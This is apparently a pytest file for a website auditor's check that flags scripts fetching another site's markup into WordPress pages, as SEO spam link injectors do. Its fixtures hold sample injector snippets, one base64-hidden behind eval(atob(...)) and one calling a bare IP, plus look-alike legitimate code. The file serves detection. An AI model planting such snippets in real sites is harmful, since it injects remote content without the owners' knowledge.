"""Another site's markup fetched and written into the page (`fetched-markup`): the SEO
link injector's client (`fetch(url).then(r => r.text()).then(t => el.innerHTML = t)`, as
MD Pabel's WordPress write-ups quote it) in the forms fetch, XHR and jQuery write it, and
the site's own code that reads alike. Pages we wrote; nothing is fetched or run."""

from __future__ import annotations

import base64

import pytest

from auditor.heuristics import FINDING_KINDS
from auditor.model import Severity

from .conftest import AuditHtml, AuditListed
from .test_injection_families import URL, wp_page

H, M = Severity.HIGH, Severity.MEDIUM

FETCH_TEXT = (
    '<div id="bl-x"></div><script>fetch("https://links.seo-partners-net.test/backlink/x.js")'
    '.then(r=>r.text()).then(y=>{document.getElementById("bl-x").innerHTML=y;});</script>')
FETCH_HOST = (
    '<div class="wpl"></div><script>fetch("https://cdn.linkpool-hub.test/get?d="+location.'
    "hostname).then(function(r){return r.text()}).then(function(t){document.querySelector("
    "'.wpl').innerHTML=t});</script>")
XHR_ADJACENT = (
    "<script>var x=new XMLHttpRequest();x.open('GET','https://cdn.linkpool-hub.test/l.php?h='"
    "+location.host,true);x.onload=function(){document.body.insertAdjacentHTML('beforeend',"
    "x.responseText)};x.send();</script>")
JQUERY_LOAD = ("<div id='ft-links'></div><script>jQuery('#ft-links').load("
               "'https://cdn.linkpool-hub.test/links.html');</script>")
JQUERY_GET = ("<div id='ft-links'></div><script>$.get('https://cdn.linkpool-hub.test/links.html',"
              "function(d){$('#ft-links').html(d);});</script>")
HIDDEN = ("<script>eval(atob('" + base64.b64encode(
    b"fetch('https://cdn.linkpool-hub.test/l').then(r=>r.text()).then(t=>{document.body."
    b"insertAdjacentHTML('beforeend',t)});").decode() + "'));</script>")
FETCH_PAGE = FETCH_TEXT.replace("/backlink/x.js", "/partner/links")
FROM_IP = FETCH_PAGE.replace("links.seo-partners-net.test", "185.212.4.19")
# the form MD Pabel found in a Divi code module (each line wrapped in the builder's
# comment), link lists served as `.js` files from two hosts
DIVI = ('<div id="datax"></div><div id="info1"></div><script><!-- [et_pb_line_break_holder] -->'
        "    fetch('https://stingbee-market.test/back.js').then((resp) => resp.text()).then(y =>"
        ' document.getElementById("datax").innerHTML=y);<!-- [et_pb_line_break_holder] -->    '
        "fetch('https://linkservice-hub.test/backlink/sigma.js').then((resp) => resp.text())"
        '.then(y => document.getElementById("info1").innerHTML=y);<!-- [et_pb_line_break_holder]'
        " --></script>")


@pytest.mark.parametrize(("name", "where", "severity"), [
    ("fetch .text() into innerHTML, in the post", {"post": FETCH_PAGE}, M),
    ("a .js file's text into innerHTML, in the post", {"post": FETCH_TEXT}, H),
    ("fetch keyed by the host name, wp_footer", {"footer": FETCH_HOST}, M),
    ("XHR responseText by insertAdjacentHTML, wp_footer", {"footer": XHR_ADJACENT}, M),
    ("jQuery .load of another site's page, wp_footer", {"footer": JQUERY_LOAD}, M),
    ("jQuery $.get into .html(), wp_footer", {"footer": JQUERY_GET}, M),
    ("jQuery $.ajax({url}) into .html(), wp_footer", {"footer": (
        "<div id='ft'></div><script>jQuery.ajax({url:'https://cdn.linkpool-hub.test/l/23',"
        "success:function(d){jQuery('#ft').html(d);}});</script>")}, M),
    ("await fetch, then innerHTML = await r.text(), wp_footer", {"footer": (
        "<div id='ft'></div><script>(async()=>{const r=await fetch('https://cdn.linkpool-hub."
        "test/l/23');document.getElementById('ft').innerHTML=await r.text();})();</script>")}, M),
    ("the address held in a name, wp_footer", {"footer": (
        "<div id='ft'></div><script>var u='https://cdn.linkpool-hub.test/l/23';fetch(u).then("
        "r=>r.text()).then(t=>{document.getElementById('ft').innerHTML=t});</script>")}, M),
    ("the injector hidden in base64, wp_footer", {"footer": HIDDEN}, H),
    ("from a bare IP address, wp_footer", {"footer": FROM_IP}, H),
    ("after </html>", {"after": FETCH_PAGE}, H),
])
def test_another_sites_markup_written_into_the_page_is_found(
        name: str, where: dict[str, str], severity: Severity,
        audit_listed: AuditListed) -> None:
    found = [f for f in audit_listed(wp_page(**where), URL).findings
             if f.kind == "fetched-markup"]
    assert [f.severity for f in found] == [severity], found
    assert severity in FINDING_KINDS["fetched-markup"].severities
    assert "<script" not in found[0].message


def test_each_host_of_a_divi_modules_backlink_lists_is_found(
        audit_listed: AuditListed) -> None:
    found = [f for f in audit_listed(wp_page(post=DIVI), URL).findings
             if f.kind == "fetched-markup"]
    assert sorted((f.evidence, f.severity) for f in found) == [
        ("https://linkservice-hub.test/backlink/sigma.js", H),
        ("https://stingbee-market.test/back.js", H)]


def test_in_a_wordpress_post_body_it_is_high(audit_html: AuditHtml) -> None:
    report = audit_html("<p>Our ferry timetable.</p>" + FETCH_PAGE,
                        url="https://www.harbourgazette.example/?p=4187", in_post_body=True)
    assert [(f.kind, f.severity) for f in report.findings
            if f.kind == "fetched-markup"] == [("fetched-markup", H)]


# the site's own code that reads alike: its own endpoint, its CDN (whose stylesheet the
# page loads), JSON rendered by its template, an answer shown as text, a known vendor
TWINS = [
    ("its own REST endpoint, relative", {"footer": (
        '<div id="tides"></div><script>fetch("/wp-json/gazette/v1/tides").then(r=>r.text())'
        '.then(t=>{document.getElementById("tides").innerHTML=t;});</script>')}),
    ("its own host, absolute", {"footer": (
        "<script>fetch('https://www.harbourgazette.example/partials/menu.html').then(r=>r."
        "text()).then(t=>{document.querySelector('nav').innerHTML=t});</script>")}),
    ("the group's header from the CDN its stylesheet comes from", {
        "head": '<link rel="stylesheet" href="https://static.harbourmedia-cdn.test/hg.css">',
        "footer": (
            "<script>fetch('https://static.harbourmedia-cdn.test/partials/footer.html').then("
            "r=>r.text()).then(t=>{document.querySelector('.site-footer').innerHTML=t});"
            "</script>")}),
    ("JSON rendered by its own template", {"footer": (
        "<script>fetch('https://api.tidetables.test/v2/harbour').then(r=>r.json()).then(d=>"
        "{document.getElementById('t').innerHTML=d.tides.map(x=>'<li>'+x.time+'</li>')"
        ".join('')});</script>")}),
    # a WordPress blog's "Related:" line built from its own feed, which rss2json turns into
    # JSON (jQuery parses the answer by its `dataType`, before or after the address)
    ("JSON jQuery's ajax parses, rendered by its own template", {"footer": (
        '<script>function parseRSS(t,n){$.ajax({url:"https://api.rss2json.test/v1/api.json?'
        'rss_url="+encodeURIComponent(t),dataType:"json",success:function(t){n(t)}})}'
        'parseRSS("https://www.harbourgazette.example/feed/",function(t){var n=t.items;'
        'html="<a href=\'"+n[0].link+"\'>"+n[0].title+"</a>";$("#related").html(html)});'
        '</script>')}),
    ("JSON asked for before the address", {"footer": (
        "<script>$.ajax({dataType:'json',url:'https://api.rss2json.test/v1/api.json',"
        "success:function(d){var h=d.items[0].title;$('#related').html(h)}});</script>")}),
    ("a 3D model loader's load of another site's file, its scene shown", {"footer": (
        "<script>new THREE.GLTFLoader().load('https://models.ferrylink.test/ferry.glb',"
        "function(g){scene.add(g.scene);document.getElementById('m').innerHTML=label;});"
        "</script>")}),
    ("an answer shown as text", {"footer": (
        "<script>fetch('https://api.tidetables.test/v2/now').then(r=>r.text()).then(t=>{"
        "document.getElementById('t').textContent=t});</script>")}),
]


@pytest.mark.parametrize(("name", "where"), TWINS, ids=[t[0] for t in TWINS])
def test_the_sites_own_markup_is_no_finding(name: str, where: dict[str, str],
                                            audit_listed: AuditListed) -> None:
    assert [f for f in audit_listed(wp_page(**where), URL).findings
            if f.kind == "fetched-markup"] == []


# legitimate code that read as markup fetched (a review's pages): a beacon POSTed, its
# answer never read, beside a click handler's own markup; the site's header or next page
# from a host that carries its name (a sister domain for its static files or its API)
OWN_NAMED = [
    ("a beacon whose answer is not read, beside a click handler's markup", {"footer": (
        "<script>fetch('https://metrics.tideclicks.test/collect',{method:'POST',keepalive:"
        "true,body:JSON.stringify({p:location.pathname})});document.addEventListener('click',"
        "function(e){if(e.target.matches('.add')){document.getElementById('mini').innerHTML="
        "'<span>Added</span>'}});</script>")}),
    ("an open-data CSV's rows appended as nodes", {"footer": (
        "<table><tbody id='fares'></tbody></table><script>fetch('https://data.ferry-open"
        "data.test/fares.csv').then(r=>r.text()).then(csv=>{for(const l of csv.split('\\n'))"
        "{const tr=document.createElement('tr');tr.textContent=l;document.getElementById("
        "'fares').append(tr)}});</script>")}),
    ("a quote shown as text, its button's own label written as markup", {"footer": (
        "<script>fetch('https://quotes.ferryverse.test/random.txt').then(r=>r.text()).then("
        "q=>{document.getElementById('q').textContent=q;document.getElementById('again')."
        "innerHTML='&#8635; Another quote';});</script>")}),
    ("the next page of stories from the site's API host on a sister domain", {"footer": (
        "<ul id='stories'></ul><script>document.getElementById('more').addEventListener("
        "'click',function(){fetch('https://api.harbourgazette-cms.example/v1/river?page=2')"
        ".then(function(r){return r.text()}).then(function(h){document.getElementById("
        "'stories').insertAdjacentHTML('beforeend',h)})});</script>")}),
    ("the shared header from the site's static domain", {"footer": (
        "<script>fetch('https://harbourgazette-static.example/header/v3.html').then(r=>r."
        "text()).then(h=>{document.getElementById('hdr').outerHTML=h});</script>")}),
]


@pytest.mark.parametrize(("name", "where"), OWN_NAMED, ids=[t[0] for t in OWN_NAMED])
def test_a_beacon_or_the_sites_sister_domain_is_no_finding(
        name: str, where: dict[str, str], audit_listed: AuditListed) -> None:
    assert [f for f in audit_listed(wp_page(**where), URL).findings
            if f.kind == "fetched-markup"] == []


def test_a_jquery_callback_given_the_answer_as_an_arrow_is_read(
        audit_listed: AuditListed) -> None:
    page = wp_page(footer="<div id='ft'></div><script>$.get('https://cdn.linkpool-hub.test/"
                          "links.html',d=>$('#ft').html(d));</script>")
    assert [f.severity for f in audit_listed(page, URL).findings
            if f.kind == "fetched-markup"] == [M]


# a saved copy read without its address: the site most of its links go to is its own
SAVED_RIVER = (
    "<html><head><title>Valley Post</title></head><body><nav><a href='https://www.valleypost"
    ".example/'>Home</a> <a href='https://www.valleypost.example/news'>News</a> <a href="
    "'https://www.valleypost.example/sport'>Sport</a></nav><ul id='river'></ul><script>"
    "document.getElementById('more').onclick=function(){fetch('{host}/river/page/2/?partial"
    "=1').then(function(r){return r.text()}).then(function(h){document.getElementById("
    "'river').insertAdjacentHTML('beforeend',h)})};</script></body></html>")


@pytest.mark.parametrize(("host", "severities"), [
    ("https://www.valleypost.example", []),
    ("https://cdn.linkpool-hub.test", [M]),
])
def test_read_without_its_address_the_sites_own_host_is_its_own(
        host: str, severities: list[Severity], audit_html: AuditHtml) -> None:
    report = audit_html(SAVED_RIVER.replace("{host}", host), url=None)
    assert [f.severity for f in report.findings if f.kind == "fetched-markup"] == severities


def test_fetched_text_appended_by_jquery_is_read(audit_listed: AuditListed) -> None:
    page = wp_page(footer="<div id='ft'></div><script>fetch('https://cdn.linkpool-hub.test/l')"
                          ".then(r=>r.text()).then(t=>{$('#ft').append(t)});</script>")
    assert [f.severity for f in audit_listed(page, URL).findings
            if f.kind == "fetched-markup"] == [M]


def test_the_answer_in_a_template_literal_is_read(audit_listed: AuditListed) -> None:
    page = wp_page(footer="<div id='ft'></div><script>fetch('https://cdn.linkpool-hub.test/l')"
                          ".then(r=>r.text()).then(t=>{document.getElementById('ft').innerHTML="
                          "`${t}`;});</script>")
    assert [f.severity for f in audit_listed(page, URL).findings
            if f.kind == "fetched-markup"] == [M]


# a link injector's feed address with its tracking query, 700 characters, held in a name:
# the address a name was last assigned is read one way, to one bound
# (`scheme_urls.ADDRESS_MAX`), whether the name is fetched or the window sent to it
LONG = "https://cdn.linkpool-hub.test/feed/get?" + "&".join(
    f"k{i}=v{i:03d}" for i in range(74))


def test_a_long_address_held_in_a_name_is_read_as_a_redirect_reads_it(
        audit_listed: AuditListed) -> None:
    assert 650 < len(LONG) < 2000
    fetched = wp_page(footer=(
        f"<div id='ft'></div><script>var feedUrl='{LONG}';fetch(feedUrl).then(r=>r.text())"
        ".then(t=>{document.getElementById('ft').innerHTML=t});</script>"))
    sent = wp_page(footer=f"<script>var feedUrl='{LONG}';window.location.href=feedUrl;</script>")
    (fetch,) = [f for f in audit_listed(fetched, URL).findings if f.kind == "fetched-markup"]
    (redirect,) = [f for f in audit_listed(sent, URL).findings if f.kind == "redirect"]
    assert fetch.severity == M
    assert redirect.evidence == LONG and LONG.startswith(fetch.evidence)  # its evidence cut
